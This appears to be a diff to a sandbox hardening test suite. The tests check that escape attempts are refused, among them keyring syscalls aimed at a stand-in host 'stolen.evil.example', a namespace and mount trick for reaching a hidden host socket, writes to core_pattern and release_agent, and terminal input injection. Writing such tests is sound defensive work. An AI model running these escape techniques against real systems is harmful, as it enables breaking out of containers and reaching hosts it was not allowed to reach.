@@ -59,6 +59,13 @@ for name, family in dict(TIPC=30, ALG=38, VSOCK=40, KCM=41, QIPCRTR=42, SMC=43, 
 refused("a family with bits above", lambda: syscall(41, 1 << 32 | 40, 1, 0))
 refused("the x32 call of socket()", lambda: syscall(0x40000000 | 41, 2, 1, 0))
 refused("io_uring", lambda: syscall(425, 8, nothing))
+# ENOENT would be the kernel's word: the program that it looked for, outside, is not installed
+for call, number in dict(add_key=248, request_key=249, keyctl=250).items():
+    try:
+        syscall(number, b"dns_resolver", b"stolen.evil.example", b"", -2)
+        print(f"not ok - attack 102: {call}")
+    except OSError as e:
+        print("ok" if e.errno == errno.ENOSYS else "not ok", f"- attack 102: {call}")
 refused("setns", lambda: syscall(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0))
 refused("bpf", lambda: syscall(321, 0, nothing, 72))
 refused("typing into the terminal", lambda: fcntl.ioctl(0, 0x5412, b"x"))
@@ -74,7 +81,7 @@ for part in "mem", "environ", "root/.", "fd/3":
 for knob in ("/proc/sys/kernel/core_pattern", "/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger",
              "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/kernel/mm/ksm/run"):
     refused(f"writing {knob}", lambda: write(knob))
-for command in ("umount /run", "umount /proc/sys", "mount -t proc proc /proc", "mount -t sysfs sysfs /sys",
+for command in ("true", "umount /run", "umount /proc/sys", "mount -t proc proc /proc", "mount -t sysfs sysfs /sys",
                 "mount -t cgroup2 none /mnt", "mount --bind /run /mnt", "mount -o remount,rw,bind /sys"):
     refused(f"in a user namespace: {command}", lambda: shell(command))
 for sig in 9, 19:
@@ -178,6 +185,29 @@ for user in nobody root; do
 	out=$(run sni $user python3 "$here/dial.py" "$here/elsewhere.sock" 2>&1)
 	hasnt "$user: also one of another network namespace" "$out" 'HOST-SERVICE'
 done
+
+# What covers a socket moves along with its folder; a second mount of where it is moved to would not have
+# the cover. So there are user namespaces, but no mount namespaces in them.
+cat >"$here/beneath.py" <<'END'
+import ctypes, os, sys
+libc = ctypes.CDLL(None)
+os.chdir(sys.argv[1])
+print("tried", flush=True)
+if libc.unshare(0x10020000) == 0 and libc.mount(b"beside", b"here", None, 4096, None) == 0:
+    os.rename("sub", "beside/sub")
+    os.execvp("python3", ["python3", sys.argv[2], "here/sub/sock"])
+END
+for user in nobody root; do
+	mkdir -p "$here/of-$user"/{sub,beside,here}
+	chown -R $user "$here/of-$user"
+	python3 "$here/listen.py" "$here/of-$user/sub/sock" &
+	world_wait 30 test -S "$here/of-$user/sub/sock"
+	out=$(run sni $user python3 "$here/beneath.py" "$here/of-$user" "$here/dial.py" 2>&1)
+	has "$user: attack 103 was tried" "$out" '^tried'
+	hasnt "$user: attack 103: no other mount shows the socket that is covered" "$out" 'HOST-SERVICE'
+	has "(outside it answers there, $user)" "$(python3 "$here/dial.py" "$here/of-$user/sub/sock")" 'HOST-SERVICE'
+done
+has "a user namespace is to be had" "$(run sni nobody unshare -Urn echo made 2>&1)" '^made'
 
 # ---- the host's own addresses, old and new ----
 cat >"$here/http.sh" <<'END'
